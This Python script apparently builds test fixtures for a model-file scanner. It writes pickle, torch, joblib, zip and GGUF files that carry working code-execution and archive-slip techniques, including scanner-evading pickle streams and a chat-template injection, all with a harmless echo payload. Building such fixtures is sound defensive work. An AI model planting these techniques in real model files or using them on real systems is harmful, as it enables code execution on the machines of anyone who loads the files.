"""Writes the attacks: /usr/bin/python3 examples/make/attacks.py

Every payload is harmless (`echo sallyport-example`, or a file name that nobody extracts), and this script loads none
of what it writes. Sources of the techniques stand beside each function. Run benign.py first: some attacks hide in its files.
"""

import builtins
import io
import os
import pathlib
import pickle
import struct
import zipfile
from collections import OrderedDict

import joblib
import torch

from layouts import write_gguf

ATTACKS = pathlib.Path(__file__).resolve().parent.parent / "attacks"
MODELS = ATTACKS.parent / "models"
COMMAND = "echo sallyport-example"
FIXED_DATE = (2026, 1, 1, 0, 0, 0)


class Runs:
    """Loading an instance calls `function(argument)`. https://docs.python.org/3/library/pickle.html#object.__reduce__"""

    def __init__(self, function, argument):
        self.call = function, argument

    def __reduce__(self):
        return self.call[0], (self.call[1],)


def plain_pickle():
    (ATTACKS / "os-command.pkl").write_bytes(pickle.dumps(Runs(os.system, COMMAND), protocol=2))


def inside_a_torch_archive():
    weights = OrderedDict(torch.load(MODELS / "digits-weights.pt"))
    weights["extra"] = Runs(builtins.eval, f"__import__('os').system('{COMMAND}')")
    torch.save(weights, ATTACKS / "torch-eval.pt")


def inside_a_compressed_joblib():
    joblib.dump({"threshold": 0.5, "hook": Runs(os.system, COMMAND)}, ATTACKS / "joblib-command.joblib", compress=("zlib", 3))


def short(text):
    raw = text.encode()
    return b"\x8c" + struct.pack("<B", len(raw)) + raw


def names_through_the_memo():
    """STACK_GLOBAL takes its names from the memo, far from where they were written (picklescan issues 14 and 22)."""
    stream = b"\x80\x04" + short("system") + b"\x94" + short("posix") + b"\x94" + b"00"
    stream += short("torch._utils") + b"0" + b"h\x01" + b"h\x00" + b"\x93" + short(COMMAND) + b"\x85R."
    (ATTACKS / "stack-global-memo.pkl").write_bytes(stream)


def broken_after_the_payload():
    """The stream breaks off after the call: loaders have run it by then (nullifAI, ReversingLabs 2025-02)."""
    stream = b"\x80\x02cposix\nsystem\n(" + b"X" + struct.pack("<I", len(COMMAND)) + COMMAND.encode() + b"tR"
    (ATTACKS / "truncated-after-payload.pkl").write_bytes(stream + b"X\xff\xff\x00\x00cut")


def member(archive, name, data):
    archive.writestr(zipfile.ZipInfo(name, FIXED_DATE), data)


def torch_members():
    with zipfile.ZipFile(MODELS / "digits-weights.pt") as source:
        return [(info.filename, source.read(info)) for info in source.infolist()]


def archive_with_an_escaping_name():
    """Archive slip, CWE-22."""
    with zipfile.ZipFile(ATTACKS / "zip-slip.pt", "w") as archive:
        for name, data in torch_members():
            member(archive, name, data)
        member(archive, "../../../tmp/sallyport-example.txt", b"this file must never be written\n")


def archive_with_a_double():
    """Two members of one name: torch loads the first, Python's zipfile shows the last."""
    evil = io.BytesIO()
    pickle.dump(Runs(os.system, COMMAND), evil, protocol=2)
    members = torch_members()
    inner = next(name for name, _ in members if name.endswith("/data.pkl"))
    with zipfile.ZipFile(ATTACKS / "duplicate-data-pkl.pt", "w") as archive:
        member(archive, inner, evil.getvalue())
        for name, data in members:
            member(archive, name, data)


def chat_template_that_breaks_out():
    """CVE-2024-34359: a template that walks to os.popen."""
    template = (
        "{% for message in messages %}{{ message['content'] }}{% endfor %}"
        "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('" + COMMAND + "').read() }}"
    )
    metadata = {"general.architecture": "llama", "general.name": "Tiny Chat", "tokenizer.chat_template": template}
    write_gguf(ATTACKS / "template-injection.gguf", metadata, {})


def download_cut_short():
    """Not an attack: a download that broke off. It must not be called clean either."""
    whole = (MODELS / "digits-encoder" / "model.safetensors").read_bytes()
    (ATTACKS / "cut-download.safetensors").write_bytes(whole[: len(whole) // 2])


if __name__ == "__main__":
    ATTACKS.mkdir(exist_ok=True)
    plain_pickle()
    inside_a_torch_archive()
    inside_a_compressed_joblib()
    names_through_the_memo()
    broken_after_the_payload()
    archive_with_an_escaping_name()
    archive_with_a_double()
    chat_template_that_breaks_out()
    download_cut_short()
